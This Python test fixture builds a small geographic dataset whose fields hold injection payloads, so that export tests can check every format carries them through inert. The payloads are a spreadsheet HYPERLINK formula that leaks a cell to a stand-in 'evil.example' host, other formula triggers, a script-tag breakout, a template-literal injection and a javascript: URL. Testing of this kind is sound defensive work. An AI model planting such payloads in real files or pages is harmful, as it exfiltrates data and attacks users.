"""A dataset whose texts try formulas, HTML, script and template injection.

Shared by the export tests (``test_export_*.py``); every format must carry
these texts through inert.
"""

import pandas as pd

from geodata import Dataset
from geodata.io import events_frame, places_frame

__all__ = ["FORMULA", "SCRIPT", "BACKTICK", "evil_dataset"]

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SCRIPT = '</script><script>alert("x")</script> & <b>'
BACKTICK = "`${alert(1)}`\\"


def evil_dataset() -> Dataset:
    """A dataset whose texts try formulas, HTML, script and template injection."""
    places = pd.DataFrame(
        [
            ["evil-1", FORMULA, "+SUM(1,1)", "", "35.95", "39.01", "SY", "Raqqa", "test"],
            ["evil-2", SCRIPT, "@cmd", "", "33.51", "36.29", "SY", "Damascus", "test"],
            ["evil-3", BACKTICK, "-2+3", "", "36.34", "43.13", "IQ", "Nineveh", "test"],
            ["plain", "Plain town", "", "", "34.56", "38.28", "SY", "Homs", "test"],
        ],
        columns=[
            "id",
            "name",
            "name_ar",
            "aliases",
            "lat",
            "lon",
            "country",
            "governorate",
            "coord_source",
        ],
    )
    rows = [
        [
            "e1",
            "evil-1",
            "initial",
            "2012-01-01",
            "",
            "",
            "",
            "",
            "SYGOV",
            "",
            FORMULA,
            "javascript:alert(1)",
            "",
        ],
        [
            "e2",
            "evil-1",
            "capture",
            "2014-01-14",
            "",
            "",
            "",
            "SYGOV",
            "ISIS",
            "",
            SCRIPT,
            "https://example.org/?a=1&b=<2>",
            "",
        ],
        ["e3", "evil-2", "initial", "2012-01-01", "", "", "", "", "SYGOV", "", BACKTICK, "", ""],
        ["e4", "evil-3", "initial", "2012-01-01", "", "", "", "", "IQGOV", "", "=1+1", "", ""],
        ["e5", "plain", "initial", "2012-01-01", "", "", "", "", "SYGOV", "", "ok", "", ""],
        ["e6", "plain", "contest", "2015-05-13", "", "", "", "SYGOV", "ISIS", "", "ok", "", ""],
    ]
    events = pd.DataFrame(
        rows,
        columns=[
            "event_id",
            "place_id",
            "kind",
            "date",
            "date_precision",
            "end_date",
            "end_precision",
            "from_faction",
            "to_faction",
            "certainty",
            "source_title",
            "source_url",
            "note",
        ],
    )
    return Dataset(places_frame(places), events_frame(events), name="evil")
